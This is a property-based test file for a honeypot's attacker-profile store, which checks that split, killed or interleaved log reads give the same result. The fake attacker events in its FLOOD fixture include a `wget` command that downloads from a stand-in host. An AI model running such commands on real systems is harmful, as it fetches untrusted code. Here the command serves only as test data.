/**
 * The profile store knows the same, however the log came to it.
 *
 * For a campaign: `DECNET_TEST_SEED=$RANDOM DECNET_TEST_SEQUENCES=500 deno test -A tests/profile_model_test.ts`.
 */
import assert from "node:assert/strict";
import fc from "fast-check";
import { campaignOf } from "./support/campaign.ts";
import { STORE_KINDS } from "./support/profile_stores.ts";
import { attackLines, dumpOf, readInto } from "./support/profile_world.ts";
import { testNeeding } from "./support/requirements.ts";
import { tempFolder } from "./support/temp_folder.ts";

/** An attacker of whom more is known than may be kept, in ten sessions. */
const FLOOD = Array.from({ length: 600 }, (_, index) => {
  const time = new Date(1_790_000_000_000 + index * 7000 + Math.floor(index / 60) * 3_600_000);
  const types = ["auth_attempt", "command", "rcpt_to", "request", "upload"] as const;
  const fields = {
    username: `user${index}`,
    password: `secret${index % 97}`,
    command: `wget http://192.0.2.1/${index}`,
    value: `<someone@domain${index}.com>`,
    user_agent: `agent/${index}`,
    sha256: `${index}`,
  };
  return `${
    JSON.stringify({
      timestamp: time.toISOString(),
      decky: `decky-${index % 300}`,
      service: `service${index % 7}`,
      event_type: types[index % types.length],
      attacker_ip: "198.51.100.77",
      fields,
    })
  }\n`;
});

const MADE = attackLines(900, 30, 7);

/** Both in one log. */
const LINES = MADE.flatMap((line, index) => [line, ...FLOOD.slice(index, index + 1)]);

/** What one batch makes of the whole logs. */
async function batch(folder: string, logs: readonly string[]): Promise<string> {
  const db = `${folder}/batch.db`;
  await readInto({ db, logs });
  return await dumpOf(db);
}

/** A run: how far the log has grown by then, how it reads, and when it is killed. */
const RUN = fc.record({
  /** Share of the log's bytes: a line may be cut anywhere. */
  grown: fc.double({ min: 0, max: 1, noNaN: true }),
  maxEvents: fc.integer({ min: 1, max: 400 }),
  commits: fc.option(fc.integer({ min: 1, max: 6 }), { nil: undefined }),
});

for (const { name, needs, share, fresh } of STORE_KINDS) {
  testNeeding(
    needs,
    `A profile store in ${name} is the same for any split of the log into runs, and runs that are killed`,
    async () => {
      await using folder = await tempFolder();
      const { path } = folder;
      const bytes = new TextEncoder().encode(LINES.join(""));
      // Every store names its log by the path that this has.
      const log = `${path}/decnet.json`;
      await Deno.writeFile(log, bytes);
      const expected = await batch(path, [log]);
      const { first: seed, sequences } = campaignOf(16);
      assert.ok(expected.split("\n").length > 100, "little is known");
      await fc.assert(
        fc.asyncProperty(fc.array(RUN, { maxLength: 6 }), async (runs) => {
          const db = await fresh();
          await Deno.remove(log);
          let written = 0;
          for (const { grown, maxEvents, commits } of [...runs].sort((a, b) => a.grown - b.grown)) {
            const until = Math.floor(grown * bytes.length);
            await Deno.writeFile(log, bytes.subarray(written, until), { append: true });
            written = until;
            await readInto({ db, logs: [log], maxEvents, ...(commits ? { commits } : {}) });
          }
          await Deno.writeFile(log, bytes.subarray(written), { append: true });
          await readInto({ db, logs: [log] });
          assert.equal(await dumpOf(db), expected);
        }),
        { seed, numRuns: Math.ceil(sequences * share) },
      );
    },
  );

  testNeeding(
    needs,
    `A profile store in ${name} is the same in whatever turns two logs are read`,
    async () => {
      await using folder = await tempFolder();
      const { path } = folder;
      const [one, other] = [`${path}/one.json`, `${path}/other.json`];
      // Both tell of the same attackers, at the same times.
      await Deno.writeTextFile(one, LINES.filter((_, index) => index % 3 === 0).join(""));
      await Deno.writeTextFile(other, LINES.filter((_, index) => index % 3 !== 0).join(""));
      const expected = await batch(path, [one, other]);
      const { first: seed, sequences } = campaignOf(10);
      await fc.assert(
        fc.asyncProperty(
          fc.array(fc.tuple(fc.boolean(), fc.integer({ min: 1, max: 300 })), { maxLength: 8 }),
          fc.boolean(),
          async (turns, otherFirst) => {
            const db = await fresh();
            for (const [isOther, maxEvents] of turns) {
              // One commit, then the turn is over.
              await readInto({ db, logs: [isOther ? other : one], maxEvents, commits: 1 });
            }
            await readInto({ db, logs: otherFirst ? [other, one] : [one, other] });
            assert.equal(await dumpOf(db), expected);
          },
        ),
        { seed, numRuns: Math.ceil(sequences * share) },
      );
    },
  );
}
